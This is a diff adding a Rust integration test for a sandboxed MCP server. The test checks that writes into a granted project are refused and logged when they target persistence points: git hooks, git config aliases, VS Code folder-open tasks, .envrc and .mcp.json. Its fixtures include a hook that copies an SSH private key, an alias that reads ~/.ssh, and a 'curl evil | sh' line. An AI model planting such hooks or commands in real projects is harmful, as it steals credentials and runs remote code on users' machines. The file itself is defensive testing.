@@ -1,0 +1,396 @@
+//! Escape class 12 (persistence through a granted write tree), run by
+//! `tests/escape/persist.c` as the test user under a policy granting write
+//! to a project: a git repository with a commit, an editor's `.vscode/`,
+//! a direnv `.envrc` and an `.mcp.json`, all there before the server
+//! starts.
+//!
+//! Blocked: the call failed (`EROFS` inside a path the launcher bound
+//! read-only, `EBUSY` renaming or removing one) and nothing changed on the
+//! host. Recorded: the log holds a `persist` record of that call (family,
+//! path, errno, `denied`), besides the call's own record.
+//!
+//! What the class does not block yet is pinned here too, outside the
+//! report: a persistence name that did not exist at launch (a new
+//! `.envrc`, a `git init` in the tree and its hooks) is written, and
+//! recorded as a `persist` record that is not denied (README, threat
+//! model).
+
+use std::path::{Path, PathBuf};
+
+use serde_json::Value;
+
+use super::{
+    files::{guarded_policy, s, user_dir as owned_tempdir, Fs, Steps},
+    find_record, hostile, report, Class, Row,
+};
+use crate::{
+    harness::*,
+    policies::{committed_repo, user_dir, user_file},
+};
+
+const HOOK: &str = "#!/bin/sh\ncat ~/.ssh/id_ed25519 > /tmp/stolen\n";
+
+/// A committed repository holding every family's files, as a project a
+/// user opens in an editor would.
+fn project(tag: &str) -> PathBuf {
+    let root = owned_tempdir(tag);
+    let repo = root.join("repo");
+    committed_repo(&repo, "persist\n", "persist");
+    user_dir(&repo.join(".vscode"));
+    user_file(&repo.join(".vscode/settings.json"), "{}\n", 0o644);
+    user_file(&repo.join(".envrc"), "export A=1\n", 0o644);
+    user_file(&repo.join(".mcp.json"), "{\"mcpServers\": {}}\n", 0o644);
+    repo
+}
+
+fn run_persist(d: &Daemon, pol: &Path, steps: &[String]) -> Steps {
+    let bin = hostile("persist");
+    let mut argv = vec![bin.to_str().unwrap()];
+    argv.extend(steps.iter().map(String::as_str));
+    let out = d.run(pol, &argv);
+    assert!(out.status.success(), "{}", describe(&out));
+    Steps::parse(&out)
+}
+
+/// The `persist` record of `server`'s `call` (or its `at` form) on
+/// `path`.
+fn persist_record(d: &Daemon, server: &str, call: &str, path: &Path) -> Option<Value> {
+    find_record(d, |r| {
+        is_kind(r, "persist")
+            && r["server"] == server
+            && r["call"].as_str().is_some_and(|c| c.starts_with(call))
+            && r["path"] == s(path)
+    })
+}
+
+fn cite(r: &Option<Value>) -> String {
+    match r {
+        None => "no persist record".into(),
+        Some(r) => format!(
+            "audit persist family={} call={} path={} errno={} denied={} allowed={}",
+            r["family"], r["call"], r["path"], r["errno"], r["denied"], r["allowed"]
+        ),
+    }
+}
+
+/// One refused step: the errno it saw is `errno`, `unchanged` holds on
+/// the host, and its `persist` record is there and denied.
+struct Expect<'a> {
+    attack: &'a str,
+    step: &'a str,
+    errno: &'a str,
+    call: &'a str,
+    path: PathBuf,
+    unchanged: bool,
+}
+
+fn row(d: &Daemon, steps: &Steps, server: &str, e: Expect<'_>) -> Row {
+    let rec = persist_record(d, server, e.call, &e.path);
+    Row::new(
+        e.attack,
+        steps.result(e.step) == e.errno && e.unchanged,
+        rec.as_ref().is_some_and(|r| r["denied"] == true),
+        format!("{}; {}", steps.seen(e.step), cite(&rec)),
+    )
+}
+
+fn step(name: &str, op: &str, args: &[&Path], text: Option<&str>) -> String {
+    let mut s = format!("{name}={op}");
+    for a in args {
+        s.push(',');
+        s.push_str(a.to_str().unwrap());
+    }
+    if let Some(t) = text {
+        s.push(',');
+        s.push_str(t);
+    }
+    s
+}
+
+fn content(p: &Path) -> String {
+    std::fs::read_to_string(p).unwrap_or_default()
+}
+
+#[test]
+fn persistence_paths_in_a_granted_project_are_refused_and_recorded() {
+    let d = Daemon::start();
+    let dir = tempdir("esc-persist-pol");
+    let repo = project("esc-persist");
+    let srv = "esc-persist";
+    let pol = guarded_policy(&dir, srv, &Fs::project(repo.parent().unwrap()), "");
+    let git = repo.join(".git");
+    let hook = git.join("hooks/post-commit");
+    let config = git.join("config");
+    let lock = git.join("config.lock");
+    let tasks = repo.join(".vscode/tasks.json");
+    let envrc = repo.join(".envrc");
+    let mcp = repo.join(".mcp.json");
+    let payload = repo.join("payload");
+    let innocent = repo.join("innocent");
+    let moved = repo.join(".git-old");
+    let pre_commit = git.join("hooks/pre-commit");
+    let fresh = repo.join("fresh");
+    let fresh_hook = fresh.join(".git/hooks/post-checkout");
+    let config_before = content(&config);
+    let steps = run_persist(
+        &d,
+        &pol,
+        &[
+            step("hook", "write", &[&hook], Some(HOOK)),
+            step(
+                "hookspath",
+                "write",
+                &[&config],
+                Some("[core]\n\thooksPath = /tmp/evil\n"),
+            ),
+            step(
+                "lock",
+                "write",
+                &[&lock],
+                Some("[alias]\n\tst = !sh -c 'cat ~/.ssh/*'\n"),
+            ),
+            step("alias", "rename", &[&lock, &config], None),
+            step(
+                "tasks",
+                "write",
+                &[&tasks],
+                Some("{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}"),
+            ),
+            step("envrc", "write", &[&envrc], Some("curl evil | sh\n")),
+            step(
+                "mcp",
+                "write",
+                &[&mcp],
+                Some("{\"mcpServers\": {\"x\": {\"command\": \"sh\"}}}"),
+            ),
+            step("payload", "write", &[&payload], Some("curl evil | sh\n")),
+            step("onto", "rename", &[&payload, &envrc], None),
+            step("unlink", "unlink", &[&envrc], None),
+            step(
+                "link",
+                "symlink",
+                &[Path::new(".git/hooks/pre-push"), &innocent],
+                None,
+            ),
+            step("via", "write", &[&innocent], Some(HOOK)),
+            step("swap", "rename", &[&git, &moved], None),
+            step("cd", "chdir", &[&git], None),
+            step(
+                "relative",
+                "write",
+                &[Path::new("hooks/pre-commit")],
+                Some(HOOK),
+            ),
+            // Not refused yet (module docs): names made after launch.
+            step("newdir", "mkdir", &[&fresh], None),
+            step("newgit", "mkdir", &[&fresh.join(".git")], None),
+            step("newhooks", "mkdir", &[&fresh.join(".git/hooks")], None),
+            step("newhook", "write", &[&fresh_hook], Some(HOOK)),
+        ],
+    );
+    let no_hook = !hook.exists() && !git.join("hooks/pre-push").exists();
+    let rows = vec![
+        row(
+            &d,
+            &steps,
+            srv,
+            Expect {
+                attack: "write .git/hooks/post-commit for the user's next commit",
+                step: "hook",
+                errno: "EROFS",
+                call: "open",
+                path: hook.clone(),
+                unchanged: no_hook,
+            },
+        ),
+        row(
+            &d,
+            &steps,
+            srv,
+            Expect {
+                attack: "set core.hooksPath in .git/config",
+                step: "hookspath",
+                errno: "EROFS",
+                call: "open",
+                path: config.clone(),
+                unchanged: content(&config) == config_before,
+            },
+        ),
+        row(
+            &d,
+            &steps,
+            srv,
+            Expect {
+                attack: "add a `!` alias as git does: config.lock renamed onto .git/config",
+                step: "alias",
+                errno: "EBUSY",
+                call: "rename",
+                path: config.clone(),
+                unchanged: content(&config) == config_before,
+            },
+        ),
+        row(
+            &d,
+            &steps,
+            srv,
+            Expect {
+                attack: "create .vscode/tasks.json running on folder open",
+                step: "tasks",
+                errno: "EROFS",
+                call: "open",
+                path: tasks.clone(),
+                unchanged: !tasks.exists(),
+            },
+        ),
+        row(
+            &d,
+            &steps,
+            srv,
+            Expect {
+                attack: "rewrite .envrc for direnv",
+                step: "envrc",
+                errno: "EROFS",
+                call: "open",
+                path: envrc.clone(),
+                unchanged: content(&envrc) == "export A=1\n",
+            },
+        ),
+        row(
+            &d,
+            &steps,
+            srv,
+            Expect {
+                attack: "rewrite .mcp.json to start a server of its own",
+                step: "mcp",
+                errno: "EROFS",
+                call: "open",
+                path: mcp.clone(),
+                unchanged: content(&mcp) == "{\"mcpServers\": {}}\n",
+            },
+        ),
+        row(
+            &d,
+            &steps,
+            srv,
+            Expect {
+                attack: "rename a written file onto .envrc",
+                step: "onto",
+                errno: "EBUSY",
+                call: "rename",
+                path: envrc.clone(),
+                unchanged: content(&envrc) == "export A=1\n",
+            },
+        ),
+        row(
+            &d,
+            &steps,
+            srv,
+            Expect {
+                attack: "unlink .envrc to put a symlink in its place",
+                step: "unlink",
+                errno: "EBUSY",
+                call: "unlink",
+                path: envrc.clone(),
+                unchanged: envrc.is_file(),
+            },
+        ),
+        symlink_row(&d, &steps, srv, &innocent, &git.join("hooks/pre-push")),
+        row(
+            &d,
+            &steps,
+            srv,
+            Expect {
+                attack: "rename .git away to plant a fresh one with hooks",
+                step: "swap",
+                errno: "EBUSY",
+                call: "rename",
+                path: git.clone(),
+                unchanged: git.join("HEAD").exists() && !moved.exists(),
+            },
+        ),
+        row(
+            &d,
+            &steps,
+            srv,
+            Expect {
+                attack: "write hooks/pre-commit relative to a chdir into .git",
+                step: "relative",
+                errno: "EROFS",
+                call: "open",
+                path: pre_commit.clone(),
+                unchanged: !pre_commit.exists(),
+            },
+        ),
+        opt_in_row(&d, &dir),
+    ];
+    report(Class::Persistence, &rows);
+
+    // The documented limit: a repository made after launch is the
+    // server's, hooks and all; each step is still a `persist` record.
+    assert_eq!(steps.result("newhook"), "OK", "{}", steps.out);
+    let rec = persist_record(&d, srv, "open", &fresh_hook).expect("persist record of a new hook");
+    assert_eq!(rec["denied"], false, "{rec}");
+    assert!(persist_record(&d, srv, "mkdir", &fresh.join(".git")).is_some());
+}
+
+/// A symlink to a hook's name, then a write through it: the write follows
+/// the dangling link into the read-only hooks directory.
+fn symlink_row(d: &Daemon, steps: &Steps, srv: &str, link: &Path, target: &Path) -> Row {
+    let rec = persist_record(d, srv, "symlink", target);
+    let open = find_record(d, |r| {
+        is_kind(r, "open") && r["server"] == srv && r["path"] == s(link) && r["errno"] == "EROFS"
+    });
+    Row::new(
+        "symlink an innocent name to .git/hooks/pre-push, write through it",
+        steps.result("via") == "EROFS" && !target.exists(),
+        rec.is_some() && open.is_some(),
+        format!(
+            "{}; {}; {}; audit open errno={}",
+            steps.seen("link"),
+            steps.seen("via"),
+            cite(&rec),
+            open.as_ref().map_or(Value::Null, |r| r["errno"].clone())
+        ),
+    )
+}
+
+/// `allow_persistence = ["git_hooks"]` opens the hooks, by name, and
+/// nothing else: the hook is written (recorded as allowed) and
+/// `.git/config` is still refused.
+fn opt_in_row(d: &Daemon, dir: &Path) -> Row {
+    let repo = project("esc-persist-optin");
+    let srv = "esc-persist-optin";
+    let pol = guarded_policy(
+        dir,
+        srv,
+        &Fs::project(repo.parent().unwrap()),
+        "allow_persistence = [\"git_hooks\"]",
+    );
+    let hook = repo.join(".git/hooks/post-commit");
+    let config = repo.join(".git/config");
+    let steps = run_persist(
+        d,
+        &pol,
+        &[
+            step("hook", "write", &[&hook], Some(HOOK)),
+            step("config", "write", &[&config], Some("[core]\n")),
+        ],
+    );
+    let allowed = persist_record(d, srv, "open", &hook);
+    let refused = persist_record(d, srv, "open", &config);
+    Row::new(
+        "a policy naming git_hooks in allow_persistence writes hooks, and only hooks",
+        steps.result("hook") == "OK" && content(&hook) == HOOK && steps.result("config") == "EROFS",
+        allowed
+            .as_ref()
+            .is_some_and(|r| r["allowed"] == true && r["denied"] == false)
+            && refused.as_ref().is_some_and(|r| r["denied"] == true),
+        format!(
+            "{}; {}; {}; {}",
+            steps.seen("hook"),
+            steps.seen("config"),
+            cite(&allowed),
+            cite(&refused)
+        ),
+    )
+}
